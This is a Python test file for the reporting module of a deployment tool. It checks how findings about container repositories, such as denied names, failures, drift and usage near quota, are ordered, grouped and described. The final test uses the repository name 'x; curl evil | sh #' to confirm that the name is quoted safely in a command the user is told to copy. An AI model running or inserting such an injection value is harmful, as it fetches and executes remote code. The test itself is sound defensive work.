from __future__ import annotations

from collections.abc import Iterable
from datetime import timedelta

from deployer.reporting.aggregation import Aggregates, aggregate
from deployer.reporting.attention import ITEMS, Finding, findings_of
from handler.records import Record
from tests.deployer.reporting.pages import coverage, usage, verification
from tests.deployer.reporting.samples import UNTIL, record


def found_in(records: Iterable[Record]) -> Aggregates:
    return aggregate(records, since=UNTIL - timedelta(days=30), until=UNTIL)


def refusals(repository: str, number: int = 3) -> list[Record]:
    return [
        record(
            outcome="refused",
            reason="name-denied",
            repository=repository,
            event_id=f"{repository}-{hours}",
            event_time=UNTIL - timedelta(hours=hours + 1),
        )
        for hours in range(number)
    ]


def by_id(findings: list[Finding]) -> dict[str, Finding]:
    return {one.id: one for one in findings}


def test_nothing_needs_attention_when_everything_is_in_sync() -> None:
    assert findings_of(found_in([record()])) == []


def test_items_that_need_action_are_listed_first() -> None:
    failed = record(outcome="failed", reason="kms-failed", event_id="failed")
    wrong = record(outcome="violation", reason="name-denied", event_id="wrong", engine="native")
    found = findings_of(
        found_in([wrong, failed, *refusals("team-a/tmp")]), coverage=coverage(), verification=verification()
    )
    assert [one.id for one in found] == [
        "violations",
        "failures",
        "lacking",
        "verify-drifted",
        "repeats",
        "verify-blank",
        "verify-unread",
    ]
    assert [one.weight for one in found] == ["act", "act", "act", "act", "look", "look", "look"]
    assert by_id(found)["violations"].items[0].note == (
        "The name matches `create.names.deny`, but ECR created the repository; delete it, or have the OU's file"
        " changed. Newest by role/ci-release."
    )
    assert by_id(found)["verify-drifted"].items[0].note == "image_tag_mutability: MUTABLE → IMMUTABLE"
    assert (
        by_id(found)["verify-blank"].items[0].note == "created 2026-11-12 for arn:aws:iam::300000000001:role/ci-release"
    )
    assert by_id(found)["verify-unread"].items[0].subject == "search-prod"
    assert by_id(found)["lacking"].title.startswith("3 accounts are without coverage")


def test_findings_of_usage_follow_those_of_a_verification_without_repetition() -> None:
    alone = findings_of(found_in([record()]), usage=usage())
    assert [one.id for one in alone] == [
        "usage-near-quota",
        "usage-unused",
        "usage-never-pulled",
        "usage-blank",
        "usage-unread",
    ]
    assert [one.weight for one in alone] == ["act", "look", "look", "look", "look"]
    unused = by_id(alone)["usage-unused"]
    assert unused.title == "1 repository was not pulled for 90 days: 3.5 GB"
    assert unused.items[0].note == (
        "41 images, 3.5 GB, 12 archived (1.0 GB), pushed 2026-03-08 to 2026-06-16, pulled 2026-07-06"
    )
    assert by_id(alone)["usage-near-quota"].items[0].note == "81,234 of 100,000 images"
    both = findings_of(found_in([record()]), usage=usage(), verification=verification())
    assert "verify-blank" in by_id(both)
    assert "usage-blank" not in by_id(both), "the same repository"
    assert [by_id(both)[f"{part}-unread"].items[0].subject for part in ("verify", "usage")] == [
        "search-prod",
        "payments-prod",
    ]


def test_failures_of_one_cause_are_one_item_and_refusals_are_grouped_by_name() -> None:
    failed = [
        record(
            outcome="failed",
            reason="kms-failed",
            repository=f"team-a/{number}",
            event_id=f"failed-{number}",
            event_time=UNTIL - timedelta(minutes=number),
        )
        for number in range(2)
    ]
    found = by_id(findings_of(found_in([*failed, *refusals("team-a/tmp")])))
    assert [one.subject for one in found["failures"].items] == ["team-a/0 and others"]
    assert found["failures"].items[0].note.startswith("2 events since ")
    assert [one.subject for one in found["repeats"].items] == ["team-a/tmp"]
    assert found["repeats"].items[0].note.startswith("3 pushes since ")


def test_long_lists_are_truncated_and_the_rest_is_counted() -> None:
    records = [one for number in range(ITEMS + 5) for one in refusals(f"team-a/tmp-{number}")]
    (found,) = findings_of(found_in(sorted(records, key=lambda one: one.at, reverse=True)))
    assert (len(found.items), found.more) == (ITEMS, 5)
    assert found.title == f"{ITEMS + 5} refusals repeat"


def test_nothing_is_claimed_about_missing_data() -> None:
    failed = record(outcome="failed", reason="kms-failed")
    (found,) = findings_of(aggregate([failed], since=UNTIL - timedelta(days=1), until=UNTIL, knows_created=False))
    assert found.title == "1 failed event"
    assert "does not show which" in found.explanation


def test_a_name_cannot_inject_code_into_a_command_to_copy() -> None:
    (found,) = findings_of(found_in(refusals("x; curl evil | sh #")))
    assert found.command == "deployer explain 300000000001 'x; curl evil | sh #'"
